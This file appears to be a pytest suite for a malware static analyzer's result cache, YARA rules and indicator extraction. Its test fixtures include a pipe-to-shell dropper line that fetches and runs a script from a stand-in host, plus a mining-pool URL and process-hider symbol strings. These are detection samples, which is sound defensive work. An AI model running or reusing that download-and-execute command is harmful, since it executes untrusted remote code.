"""The content pass and its cache: each distinct content scanned once, results kept by sha256 and
keyed by the ruleset and the analyzer's version, a corrupt cache rebuilt, and the worker
processes finding what the in-process scan finds. Asserted on the cache's counters, not on time."""

from __future__ import annotations

import shutil
import sqlite3
import subprocess
import threading
from pathlib import Path

import pytest
import yara_x

from detonate.model.options import StaticOptions
from detonate.progress import NullProgress
from detonate.rules.loader import _load_rules, forget_fingerprints
from detonate.static import analyze, content_pass, yara_rules
from detonate.static.content_pass import content_results
from detonate.static.indicators import CANDIDATES_YARA, find_indicators
from detonate.static.interface import AnalyzerResult
from detonate.static.result_cache import (
    DB_NAME,
    ResultCache,
    ResultKey,
    cache_stats,
    close_connections,
    reset_cache_stats,
    stored_stats,
)
from detonate.static.yara_rules import compiled_rules, size_bound
from static.rootfs_builder import SampleFile, build_rootfs, make_image


def forget_rules() -> None:
    """Read and compile the rule files again (a process otherwise keeps them while their
    fingerprint holds, and an edit within one mtime tick may not change it)."""
    forget_fingerprints()
    _load_rules.cache_clear()
    yara_rules._compiled.cache_clear()


DROPPER = b"#!/bin/sh\ncurl -fsSL http://x.test/a.sh | sh\n"
POOL = b"pool=stratum+tcp://pool.test:3333\n"
USER_RULE = """rule {name}
{{
    meta:
        title = "Marker string of the cache tests"
        why = "Only the cache tests use it."
        severity = "low"
        confidence = "low"
        category = "weaponization"
        technique = "T1105"
    strings:
        $marker = "{marker}"
    condition:
        $marker
}}
"""


def files() -> list[SampleFile]:
    return [
        SampleFile("/opt/app/run.sh", DROPPER, 0o755),
        SampleFile("/opt/app/copy.sh", DROPPER, 0o755),  # same content: scanned once
        SampleFile("/srv/deploy.sh", DROPPER, 0o755),
        SampleFile("/opt/app/miner.conf", POOL),
        SampleFile("/opt/app/notes", b"DETONATE-MARKER-ONE and DETONATE-MARKER-TWO\n"),
    ]


def scan(root: Path, options: StaticOptions) -> AnalyzerResult:
    rootfs = build_rootfs(root, files())
    return analyze(make_image(), rootfs, options, NullProgress())


def counts(analyzer: str) -> tuple[int, int]:
    stats = cache_stats().get(analyzer, {})
    return stats.get("hits", 0), stats.get("misses", 0)


def user_rules(directory: Path, marker: str) -> Path:
    directory.mkdir(exist_ok=True)
    rule = USER_RULE.format(name="cache_test_marker", marker=marker)
    (directory / "cache-test-marker.yar").write_text(rule)
    forget_rules()  # a process reads and compiles a rules directory once
    return directory


@pytest.fixture(autouse=True)
def fresh_counters() -> None:
    reset_cache_stats()


def test_identical_files_are_scanned_once(tmp_path: Path) -> None:
    rootfs = build_rootfs(tmp_path / "rootfs", files())
    results = content_results(rootfs, StaticOptions(), NullProgress())
    assert results.scanned == 3  # five files, three contents
    assert counts("yara") == (0, 3)
    finding = {
        f.rule_id: f
        for f in analyze(make_image(), rootfs, StaticOptions(), NullProgress()).findings
    }
    paths = {e.path for e in finding["shell-download-pipe"].evidence}
    assert paths == {"/opt/app/run.sh", "/opt/app/copy.sh", "/srv/deploy.sh"}


def test_a_second_scan_reads_every_result_from_the_cache(tmp_path: Path) -> None:
    options = StaticOptions(results_cache=tmp_path / "results")
    first = scan(tmp_path / "a", options)
    assert counts("yara") == (0, 3) and cache_stats()["yara"]["stored"] == 3
    reset_cache_stats()
    second = scan(tmp_path / "b", options)  # another rootfs, the same contents
    assert counts("yara") == (3, 0)
    assert counts("iocs") == (3, 0)
    assert second.findings == first.findings and second.iocs == first.iocs
    assert "ioc-mining-pool" in {f.rule_id for f in second.findings}
    stored = stored_stats(tmp_path / "results")  # what `detonate cache stats` shows
    assert stored["yara"] == {"entries": 3, "hits": 3, "misses": 3}
    assert stored[""]["bytes"] > 0


def test_a_changed_yara_rule_rescans_and_an_unchanged_one_does_not(tmp_path: Path) -> None:
    rules = user_rules(tmp_path / "rules", "DETONATE-MARKER-ONE")
    options = StaticOptions(results_cache=tmp_path / "results", extra_rules_dir=rules)
    assert "cache-test-marker" in {f.rule_id for f in scan(tmp_path / "a", options).findings}

    user_rules(rules, "DETONATE-MARKER-ONE")  # rewritten, same source: same ruleset hash
    reset_cache_stats()
    scan(tmp_path / "b", options)
    assert counts("yara") == (3, 0)

    user_rules(rules, "DETONATE-MARKER-NONE")  # changed: every content is scanned again …
    reset_cache_stats()
    result = scan(tmp_path / "c", options)
    assert counts("yara") == (0, 3)
    assert counts("iocs") == (3, 0)  # … for the rules only: IOC results do not depend on them
    assert "cache-test-marker" not in {f.rule_id for f in result.findings}
    forget_rules()


def test_a_new_analyzer_version_misses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    options = StaticOptions(results_cache=tmp_path / "results")
    scan(tmp_path / "a", options)
    monkeypatch.setattr(content_pass, "IOC_VERSION", content_pass.IOC_VERSION + " next")
    reset_cache_stats()
    scan(tmp_path / "b", options)
    assert counts("iocs") == (0, 3) and counts("yara") == (3, 0)


def test_a_corrupt_cache_is_rebuilt(tmp_path: Path) -> None:
    cache = tmp_path / "results"
    options = StaticOptions(results_cache=cache)
    first = scan(tmp_path / "a", options)
    close_connections()  # as a new process would find it
    (cache / DB_NAME).write_bytes(b"this is not an SQLite database" * 100)
    for leftover in cache.glob(DB_NAME + "-*"):
        leftover.unlink()
    reset_cache_stats()
    second = scan(tmp_path / "b", options)
    assert second.findings == first.findings
    assert sum(c["rebuilt"] for c in cache_stats().values()) == 1  # by the first to open it
    assert counts("yara") == (0, 3)
    reset_cache_stats()
    scan(tmp_path / "c", options)
    assert counts("yara") == (3, 0)  # the rebuilt database is used again


def test_a_damaged_row_is_a_miss(tmp_path: Path) -> None:
    cache = ResultCache(tmp_path, ResultKey("yara", "1", "rules"))
    cache.put_many({"a" * 64: [["rule", "text"]]})
    cache.close()
    with sqlite3.connect(tmp_path / DB_NAME) as db:
        db.execute("UPDATE results SET value = '{not json'")
    assert ResultCache(tmp_path, ResultKey("yara", "1", "rules")).get_many(["a" * 64]) == {}


def test_concurrent_writers_share_the_cache(tmp_path: Path) -> None:
    errors: list[BaseException] = []

    def write(worker: int) -> None:
        try:
            cache = ResultCache(tmp_path, ResultKey("iocs", "1", "x"))
            for batch in range(20):
                cache.put_many({f"{worker:02d}{batch:02d}".ljust(64, "0"): {"n": batch}})
            cache.close()
        except BaseException as error:  # reported by the assertion below
            errors.append(error)

    threads = [threading.Thread(target=write, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    digests = [f"{w:02d}{b:02d}".ljust(64, "0") for w in range(4) for b in range(20)]
    assert len(ResultCache(tmp_path, ResultKey("iocs", "1", "x")).get_many(digests)) == 80


def test_the_connection_a_thread_kept_is_closed_when_the_thread_ends(tmp_path: Path) -> None:
    # Each scan's content pass has a thread of its own: were every new thread id to keep one
    # more database open, a long-running service would gain fds scan after scan (issue 14).
    from detonate.static import result_cache

    close_connections()
    kept: list[sqlite3.Connection | None] = []
    while_alive: list[int] = []

    def use() -> None:
        cache = ResultCache(tmp_path, ResultKey("iocs", "1", "x"))
        cache.put_many({"a" * 64: 1})
        kept.append(cache._db)
        cache.close()
        while_alive.append(len(result_cache._connections))

    thread = threading.Thread(target=use)
    thread.start()
    thread.join()
    assert while_alive == [1]  # kept while the thread lived
    assert kept[0] is not None and not result_cache._connections
    with pytest.raises(sqlite3.ProgrammingError):  # closed
        kept[0].execute("SELECT 1")
    cache = ResultCache(tmp_path, ResultKey("iocs", "1", "x"))
    assert cache.get_many(["a" * 64]) == {"a" * 64: 1}  # what it wrote stays


def test_worker_processes_find_what_the_scan_in_process_finds(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    in_process = scan(tmp_path / "a", StaticOptions())
    monkeypatch.setattr(content_pass, "IN_PROCESS_BYTES", 0)
    monkeypatch.setattr(content_pass, "IN_PROCESS_FILES", 0)
    monkeypatch.setattr(content_pass, "WORKERS", 2)
    monkeypatch.setattr(content_pass, "BATCH_FILES", 1)
    workers = scan(tmp_path / "b", StaticOptions())
    assert workers.findings == in_process.findings and workers.iocs == in_process.iocs
    assert {"shell-download-pipe", "ioc-mining-pool"} <= {f.rule_id for f in workers.findings}


INDICATOR_TEXTS = [
    b"get http://198.51.100.7/x.sh and stratum+tcp://pool.test:3333, ftp://files.test/a",
    b"version 1.2.3.4.5 vs 203.0.113.9; 1234.5.6.7 x192.0.2.1",
    b"xmr 4A" + (b"FakeMoneroWa11etForDetonateTestsXmr" * 3)[:93] + b" end",
    b"btc 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 and bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
    b"nested 11111111111111111111111111111111111111 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy",
]


@pytest.mark.parametrize("text", INDICATOR_TEXTS)
def test_candidates_from_yara_give_what_python_finds_alone(text: bytes) -> None:
    data = b"\x00junk\x7f" + text + b"\n" + text[::-1] + b" " + text
    assert vars(find_indicators(data, _starts(data))) == vars(find_indicators(data))
    assert find_indicators(data)  # each text has something to find


def test_candidates_agree_on_a_real_binary() -> None:
    binary = Path(shutil.which("busybox") or "/bin/busybox")
    if not binary.is_file():
        pytest.skip("no busybox binary on this host")
    data = binary.read_bytes()[: 4 * 1024 * 1024]
    assert vars(find_indicators(data, _starts(data))) == vars(find_indicators(data))


def _starts(data: bytes) -> dict[str, list[int]]:
    compiler = yara_x.Compiler()
    compiler.add_source(CANDIDATES_YARA)
    starts: dict[str, list[int]] = {}
    for rule in yara_x.Scanner(compiler.build()).scan(data).matching_rules:
        for pattern in rule.patterns:
            starts[pattern.identifier.lstrip("$")] = [m.offset for m in pattern.matches]
    return starts


def test_preload_rule_reads_program_headers_of_real_elf_files(tmp_path: Path) -> None:
    """The ld-preload rule tells a shared library (no PT_INTERP) from a PIE program (PT_INTERP)
    by reading the program headers itself; checked on real ELF files built by the C compiler."""
    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        pytest.skip("no C compiler")
    source = tmp_path / "hider.c"
    source.write_text(
        'const char *s[] = {"readdir", "readdir64", "dlsym", "/proc/self/fd/", "/proc/%d/stat"};\n'
        "int f(void) { return s[0][0]; }\nint main(void) { return s[1][0]; }\n"
    )
    library, program = tmp_path / "libhide.so", tmp_path / "hider"
    subprocess.run([cc, "-shared", "-fPIC", "-o", library, source], check=True)
    subprocess.run([cc, "-pie", "-fPIE", "-o", program, source], check=True)
    rules = compiled_rules().scan
    scanner = yara_x.Scanner(rules)
    names = [
        {r.identifier for r in scanner.scan(path.read_bytes()).matching_rules}
        for path in (library, program)
    ]
    assert names == [{"ld_preload_process_hider"}, set()]


USER_FILE_RULE = """title: Marker line in a config file
why: Only the cache tests use it.
severity: low
confidence: low
category: weaponization
technique: T1105
subject: file
match:
  name: {{glob: "*.conf"}}
  content: {{regex: "{regex}"}}
"""


def test_file_content_rules_are_cached_per_rule(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    rule_file = rules / "cache-test-conf-line.yaml"
    rule_file.write_text(USER_FILE_RULE.format(regex="pool=stratum"))
    forget_rules()
    options = StaticOptions(results_cache=tmp_path / "results", extra_rules_dir=rules)
    first = scan(tmp_path / "a", options)
    assert "cache-test-conf-line" in {f.rule_id for f in first.findings}
    first_misses = counts("files")[1]
    assert first_misses > 0

    reset_cache_stats()
    second = scan(tmp_path / "b", options)
    assert counts("files") == (first_misses, 0) and second.findings == first.findings

    rule_file.write_text(USER_FILE_RULE.format(regex="pool=nothing-here"))
    forget_rules()
    reset_cache_stats()
    third = scan(tmp_path / "c", options)
    assert counts("files") == (first_misses - 1, 1)  # only the changed rule reads miner.conf
    assert "cache-test-conf-line" not in {f.rule_id for f in third.findings}
    forget_rules()


@pytest.mark.parametrize(
    ("condition", "bound"),
    [
        ("filesize < 4MB and $a", 4 * 1024 * 1024),
        (
            "filesize < 256KB and $a at 0 and for any i in (1..#a) : (@a[i] > 3 or @a[i] < 1)",
            262144,
        ),
        ("// a comment (with or in it)\n        filesize < 100 and ($a or $b)", 100),
        ("filesize < 4MB and $a or $b", None),  # `or` at the top: $b alone matches any size
        ("$a and filesize < 4MB", None),  # the bound is not first
        ('filesize < 4MB and pe.sections[0].name == "or"', None),  # strings: not parsed
        ("any of them", None),
    ],
)
def test_size_bound_of_a_rule_is_read_conservatively(condition: str, bound: int | None) -> None:
    strings = '    strings:\n        $a = "x"\n        $b = "y"\n'
    source = f"rule r\n{{\n{strings}    condition:\n        {condition}\n}}\n"
    assert size_bound(source) == bound


def test_size_classes_match_what_the_whole_rule_set_matches() -> None:
    """Over the rule samples and a few real binaries: the class a file's size picks finds the
    same rules as all the rules together."""
    compiled = compiled_rules()
    everything = yara_x.Scanner(compiled.scan)
    samples = sorted(p for p in (Path(__file__).parent.parent / "rules/samples").rglob("*"))
    binaries = [Path(p) for p in ("/usr/bin/skopeo", "/usr/bin/runc", "/bin/busybox")]
    files = [p for p in samples + binaries if p.is_file()]
    assert len(files) > 50
    for path in files:
        data = path.read_bytes()
        rules = compiled.for_size(len(data))
        by_class = (
            set()
            if rules is None
            else {r.identifier for r in yara_x.Scanner(rules).scan(data).matching_rules}
        )
        assert by_class == {r.identifier for r in everything.scan(data).matching_rules}, path


def test_a_large_file_is_scanned_in_place_with_the_same_hits(tmp_path: Path) -> None:
    """Files above the IOC head (4 MiB) are scanned through yara-x's file mapping; a hit past
    the head is found, with its excerpt, and the head's indicators still count."""
    miner = (
        Path(__file__).parent.parent / "rules/samples/xmrig-miner/hit-strings.bin"
    ).read_bytes()
    head = b"\x7fELF" + b"\x00" * 100 + b"http://203.0.113.8/update.sh\x00"
    large = head + b"\x00" * (5 * 1024 * 1024) + miner
    rootfs = build_rootfs(tmp_path / "rootfs", [SampleFile("/opt/worker", large, 0o755)])
    result = analyze(make_image(), rootfs, StaticOptions(), NullProgress())
    (evidence,) = {f.rule_id: f for f in result.findings}["xmrig-miner"].evidence
    assert evidence.path == "/opt/worker" and evidence.excerpt
    assert evidence.excerpt.encode() in miner  # the excerpt is read from past the head
    assert "http://203.0.113.8/update.sh" in result.iocs.urls
    assert "stratum+tcp://pool.test:3333" not in result.iocs.pools  # past the head: not read


@pytest.mark.parametrize("scheme", ["stratum+tcp://", "STRATUM+SSL://", "Stratum+Tcp://"])
@pytest.mark.parametrize("encoding", ["ascii", "utf-16-le"])
def test_miner_rule_finds_stratum_urls_in_any_case_ascii_or_wide(
    scheme: str, encoding: str
) -> None:
    """The miner rule's stratum strings became one regex (fewer atoms): still nocase and wide."""
    data = b"randomx donate-level nicehash " + scheme.encode(encoding) + b" end"
    matched = yara_x.Scanner(compiled_rules().scan).scan(data).matching_rules
    assert [r.identifier for r in matched] == ["xmrig_miner"]
    without = data.replace(scheme.encode(encoding), b"")
    assert not list(yara_x.Scanner(compiled_rules().scan).scan(without).matching_rules)
